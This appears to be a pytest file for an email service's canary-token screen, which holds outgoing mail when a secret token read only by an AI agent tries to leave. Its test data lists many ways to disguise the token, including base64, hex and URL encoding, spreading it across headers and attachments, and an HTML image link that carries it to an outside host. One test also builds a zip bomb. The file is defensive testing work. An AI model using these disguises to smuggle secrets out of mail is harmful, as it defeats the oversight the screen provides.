"""Canaries: a token that only an agent reads must not leave, however it is dressed up."""

import base64
import io
import quopri
import zipfile
from typing import Any

import pytest

from postroom.mailbox import inboxes
from postroom_mail.screening import disguises
from postroom_mail.screening.canary import holds_token, new_token
from postroom_mail.writing.compose import Draft, DraftAttachment, compose
from tests.api.test_send import first_message, send
from tests.client.test_mcp import http_agent
from tests.client.test_mcp_writing import live
from tests.conftest import Server
from tests.outward.test_holds import add_key
from tests.raw_mails import raw_mail
from tests.samples import samples

pytestmark = pytest.mark.sqlite_alone

TOKEN = "kd73hgr9wmx2pq5vtn4z"
OTHER = "Nothing to see here, order 4711 and " + "kd73hgr9wmx2pq5vtn4y"


def zipped(content: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", f"<w:t>{content}</w:t>")
    return file.getvalue()


def written(**fields: Any) -> bytes:
    plain = {"subject": "Hello", "text": "Hello", "from_name": "", "from_address": "bob@example.org"}
    more = {"to": ("eve@example.com",), "message_id": "<m@example.org>", "date_at": 1_794_650_700_000}
    return compose(Draft(**{**plain, **more, **fields}))


def attached(name: str, content: bytes) -> dict[str, Any]:
    return {"attachments": (DraftAttachment(name, "application/octet-stream", content),)}


LEAKS: list[dict[str, Any]] = [
    {"text": f"The reference is {TOKEN}."},
    {"text": TOKEN.upper()},
    {"text": " ".join(TOKEN)},
    {"text": "-".join(TOKEN[i : i + 4] for i in range(0, 20, 4))},
    {"text": TOKEN[::-1]},
    {"text": f"Look: {base64.b64encode(f'it is {TOKEN}'.encode()).decode()}"},
    {"text": f"a {base64.urlsafe_b64encode(f'?? {TOKEN}'.encode()).decode()} b"},
    {"text": "\n".join(base64.encodebytes(b"x" * 60 + TOKEN.encode()).decode().split())},
    {"text": TOKEN.encode().hex(" ")},
    {"text": "".join(f"={byte:02X}" for byte in TOKEN.encode())},
    {"text": quopri.encodestring(f"é{TOKEN}".encode()).decode()},
    {"text": "".join(f"%{byte:02x}" for byte in TOKEN.encode())},
    {"text": "x", "html": "".join(f"&#{byte};" for byte in TOKEN.encode())},
    {"text": "x", "html": f"<img src='https://e.example/?q={TOKEN[:9]}{TOKEN[9:]}'>"},
    {"text": "x", "html": f"<!-- {TOKEN} -->"},
    {"subject": f"Re: {TOKEN}"},
    {"subject": f"Grüße {TOKEN}"},
    {"headers": {"X-Order": base64.b64encode(TOKEN.encode()).decode()}},
    {"to": (f"{TOKEN} <eve@example.com>",)},
    {"to": (f"{TOKEN}@example.com",)},
    {"reply_to": f"eve+{TOKEN}@example.com"},
    attached(f"{TOKEN}.pdf", b"x"),
    attached(f"{base64.b64encode(TOKEN.encode()).decode()}.pdf", b"x"),
    attached("notes.txt", f"so it is {TOKEN}".encode()),
    attached("notes.txt", TOKEN.encode("utf-16")),
    attached("notes.txt", base64.b64encode(TOKEN.encode())),
    attached("letter.docx", zipped(TOKEN)),
]


@samples("fields", LEAKS)
def test_a_token_is_found_however_it_is_written(fields: dict[str, Any]) -> None:
    assert holds_token(written(**fields), TOKEN)


@samples(
    "fields", [{}, {"text": OTHER}, {"html": f"<p>{OTHER}</p>"}, attached("a.zip", zipped(OTHER) + b"!")]
)
def test_other_words_hold_nothing_back(fields: dict[str, Any]) -> None:
    assert not holds_token(written(**fields), TOKEN)


def test_a_zip_that_is_none_or_never_ends_is_left_to_its_reader(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(disguises, "MAX_ZIP_BYTES", 1_000_000)
    bomb = zipped("0" * 1_500_000 + TOKEN)
    assert not holds_token(written(**attached("a.zip", bomb)), TOKEN)
    assert not holds_token(written(**attached("a.zip", b"PK\x03\x04" + bytes(100))), TOKEN)
    assert holds_token(written(**attached("a.zip", b"PK\x03\x04" + TOKEN.encode())), TOKEN)


def test_tokens_are_never_alike() -> None:
    assert len({new_token() for _ in range(1000)}) == 1000


async def token_of(server: Server, inbox_id: str) -> str:
    inbox = await server.resources.db.read(inboxes.find, inbox_id)
    assert inbox is not None
    assert inbox.canary is not None
    return inbox.canary


async def test_a_send_with_the_token_is_held_and_its_owner_told(server: Server) -> None:
    made = await server.api.post("/v1/inboxes", json={"mailboxName": "bob", "canary": True})
    bob = made.json()["id"]
    assert made.json()["canary"] is True
    token = await token_of(server, bob)
    assert token not in made.text
    free = (await send(server, bob, to="dan@example.org", body="All is well")).json()
    assert "hold" not in free
    leak = base64.b64encode(f"reference {token}".encode()).decode()
    held = (await send(server, bob, to="eve@example.org", body=f"Here: {leak}")).json()
    assert held["hold"]["reasons"] == ["canary"]
    kinds = []
    event: dict[str, Any] = {}
    while "message.held" not in kinds:
        event = await server.next_event(event.get("event_id"))
        kinds.append(event["event"])
    assert event["hold"]["reasons"] == ["canary"]
    audited = (await server.api.get("/v1/audit?action=canary.found")).json()["data"]
    assert [each["target"] for each in audited] == [held["id"]]
    approved = await server.api.post(
        f"/v1/messages/{held['id']}/approve", json={"contentHash": held["hold"]["contentHash"]}
    )
    assert approved.status_code == 403  # the key that sent it does not decide
    off = await server.api.patch(f"/v1/inboxes/{bob}", json={"canary": False})
    assert off.json()["canary"] is False
    assert "hold" not in (await send(server, bob, to="eve@example.org", body=leak)).json()


async def test_its_agent_reads_the_token_and_no_other_does(server: Server) -> None:
    made = await server.api.post("/v1/inboxes", json={"mailboxName": "bob", "canary": True})
    bob, carol = made.json()["id"], await server.new_inbox("carol")
    token = await token_of(server, bob)
    await server.deliver(raw_mail(subject="Question"), "bob", "carol")
    threads = [(await first_message(server, inbox_id))["threadId"] for inbox_id in (bob, carol)]
    pages = [(await server.api.get(f"/v1/threads/{each}/messages")).json() for each in threads]
    assert token in pages[0]["canary"]
    assert "canary" not in pages[1]
    for inbox_id, thread_id, is_watched in zip((bob, carol), threads, (True, False), strict=True):
        key = await server.resources.db.write(add_key, server, inbox_id, ["read", "send"])
        async with http_agent(live(server), key) as agent:
            told = str(agent.client.instructions)
            assert (token in told) is is_watched
            assert (token in str(await agent.call("read_thread", thread_id=thread_id))) is is_watched
